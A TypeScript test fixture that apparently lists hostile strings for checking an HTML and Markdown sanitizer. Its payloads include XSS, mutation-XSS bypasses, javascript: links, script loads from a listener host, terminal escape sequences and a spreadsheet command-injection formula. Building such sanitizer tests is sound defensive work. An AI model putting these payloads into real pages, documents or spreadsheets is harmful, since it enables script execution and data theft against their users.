/** The last of them, by which a test knows that all were drawn. */
export const lastHostileText = 'no more hostile texts';

/**
 * What takes over a page that believes it: each sets `wasRun`, or asks a listener for something. By kind of the mistake
 * that it needs (OWASP, "XSS Filter Evasion"; the mutations are those that sanitizers missed).
 * @param listener origin that nobody may ask
 */
export function hostileTexts(listener: string): string[] {
  // In a frame of another origin the page cannot be reached.
  const run = 'window.wasRun=1,top.wasRun=1';
  return [
    // Markup in what is taken for text.
    `<script>${run}</script>`,
    `<script src="${listener}/script.js"></script>`,
    `</title></textarea></style></script></noscript><script>${run}</script>`,
    `<img src=x onerror="${run}">`,
    `<IMG/SRC=x/ONERROR=${run}>`,
    `<svg onload="${run}"><animate onbegin="${run}" attributeName=x dur=1s /></svg>`,
    `<svg><script href="${listener}/svg.js"></script><image href="${listener}/svg.png"/></svg>`,
    `<body onload="${run}"><input autofocus onfocus="${run}"><details open ontoggle="${run}">`,
    `<iframe src="javascript:${run}"></iframe><iframe srcdoc="<script>${run}</script>"></iframe>`,
    `<object data="${listener}/object"></object><embed src="${listener}/embed">`,
    `<video poster="${listener}/poster" onloadstart="${run}"><source onerror="${run}"></video>`,
    `<marquee onstart="${run}">x</marquee><div style="animation:spin 1s" onanimationstart="${run}">`,
    `<template shadowrootmode=open><img src=x onerror="${run}"></template>`,
    // Mutations: harmless to whoever reads them once, not to a browser that reads them again.
    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
    `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
    `<!--><img src=x onerror=${run}>--><![CDATA[><img src=x onerror=${run}>]]>`,
    `&lt;img src=x onerror=${run}&gt; &#60;script&#62;${run}&#60;/script&#62;`,
    // Markup that only has to be loaded.
    `<link rel=stylesheet href="${listener}/style.css"><style>@import "${listener}/import.css"</style>`,
    `<base href="${listener}/"><meta http-equiv=refresh content="0;url=${listener}/refresh">`,
    `<link rel=preconnect href="${listener}"><link rel=dns-prefetch href="${listener}"><link rel=prefetch href="${listener}/x">`,
    `<p style="background:url(${listener}/background.png)">styled</p>`,
    `<form action="${listener}/form"><button autofocus formaction="javascript:${run}">send</button></form>`,
    // Out of an attribute, and out of a script.
    `" onmouseover="${run}" autofocus onfocus="${run}" x="`,
    `' onerror='${run}' x='`,
    `';${run};//`,
    `\`-${run}-\``,
    `\${${run}}{{constructor.constructor('${run}')()}}#{${run}}<%= ${run} %>`,
    `{"__proto__":{"wasRun":1},"constructor":{"prototype":{"wasRun":1}}}`,
    `</script><!--<script>${run}`,
    // Links, as documents, answers and terminals write them.
    `[link](javascript:${run}) [link](JaVaScRiPt&colon;${run}) [link](data:text/html,<script>${run}</script>)`,
    `[link](java\tscript:${run}) [link](vbscript:x) [link](\u0001javascript:${run}) <javascript:${run}>`,
    `![image](${listener}/image.png) ![image](javascript:${run}) ![image](data:image/svg+xml,<svg onload=${run}>)`,
    `![" onerror="${run}](x) [x](https://example.com/"onmouseover="${run})`,
    `<a href="javascript:${run}" target=_top ping="${listener}/ping">link</a>`,
    `\u001b]8;;javascript:${run}\u0007link\u001b]8;;\u0007 \u001b]0;<script>${run}</script>\u0007`,
    `\u001b]52;c;PHNjcmlwdD4=\u0007\u001b[31m<img src=x onerror=${run}>\u001b[0m`,
    `\u009d8;;javascript:${run}\u009clink`,
    // Formulas, diagrams, tables.
    `$\\href{javascript:${run}}{x}$ $\\includegraphics{${listener}/formula.png}$ $\\htmlData{x=1}{y}$`,
    `=HYPERLINK("${listener}/cell","x") =cmd|'/c calc'!A1 @SUM(1) +1 -1`,
    // What is not what it looks like.
    `\u202e<tpircs/>1=nuRsaw.pot<tpircs>\u202c \u2066x\u2069 \ufeff\u200b<scr\u200bipt>${run}</script>`,
    `<scr<script>ipt>${run}</scr</script>ipt> <\u000bscript>${run}</script>`,
    `\uff1cscript\uff1e${run}\uff1c/script\uff1e <ſcript>${run}</ſcript>`,
    lastHostileText,
  ];
}
